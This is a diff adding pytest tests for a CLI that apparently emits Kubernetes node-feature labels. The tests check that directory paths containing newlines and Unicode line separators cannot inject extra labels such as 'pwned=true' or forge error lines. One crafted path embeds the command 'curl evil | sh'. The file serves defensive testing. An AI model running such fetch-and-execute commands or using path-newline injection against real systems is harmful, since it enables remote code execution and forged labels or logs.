@@ -113,3 +113,45 @@ def test_cli_refuses_a_bad_prefix(capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["labels", "--prefix", "kubernetes.io"]) == 2
     assert "E907" in capsys.readouterr().err
     assert time.monotonic() - t < 5  # refused before any scan
+
+
+NEWLINE_LABEL = "mlprobe.feature.node.kubernetes.io/pwned=true"
+
+
+def _error_lines_are_one_error(err: str) -> None:
+    """An error is its `error [E...]` line, then `  why:` / `  next:` lines and their indented
+    continuations: nothing from a path starts a line of its own."""
+    lines = [ln for ln in err.splitlines() if ln.strip()]
+    assert sum(ln.startswith("error [") for ln in lines) == 1, err
+    for ln in lines:
+        assert ln.startswith(("error [", "  why: ", "  next: ", "    ")), f"a line of its own: {ln!r}\n{err}"
+    assert NEWLINE_LABEL not in [ln.strip() for ln in lines]
+
+
+def test_a_bundle_path_with_newlines_adds_no_label(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    import shutil
+
+    odd = tmp_path / f"evil\n{NEWLINE_LABEL.replace('/', '-')}\r\n{NEWLINE_LABEL.split('/')[0]}.x=y\u2028z=1"
+    shutil.copytree(FIXTURES / "linux-nvidia-h100-smi", odd)
+    assert main(["labels", "--replay", str(odd)]) == 0
+    text = capsys.readouterr().out
+    labels = parse_features(text)
+    assert all(k.startswith(DEFAULT_PREFIX + "/") for k in labels)
+    assert not any("pwned" in k or k.endswith(".x") for k in labels), labels
+    for line in text.splitlines():
+        assert line.startswith("#") or "=" in line, repr(line)
+    # written to a file, the same
+    out = tmp_path / "features"
+    assert main(["labels", "--replay", str(odd), "-o", str(out)]) == 0
+    assert parse_features(out.read_text(encoding="utf-8")) == labels
+
+
+def test_error_messages_keep_a_path_with_newlines_on_its_line(tmp_path: Path,
+                                                             capsys: pytest.CaptureFixture[str]) -> None:
+    missing = str(tmp_path / f"nowhere\n{NEWLINE_LABEL}\nerror [E000]: fake\n  next: curl evil | sh")
+    assert main(["labels", "--replay", missing]) == 2
+    _error_lines_are_one_error(capsys.readouterr().err)
+    assert main(["labels", "-o", missing + "/features"]) == 2
+    _error_lines_are_one_error(capsys.readouterr().err)
+    assert main(["scan", "--replay", missing]) == 2
+    _error_lines_are_one_error(capsys.readouterr().err)
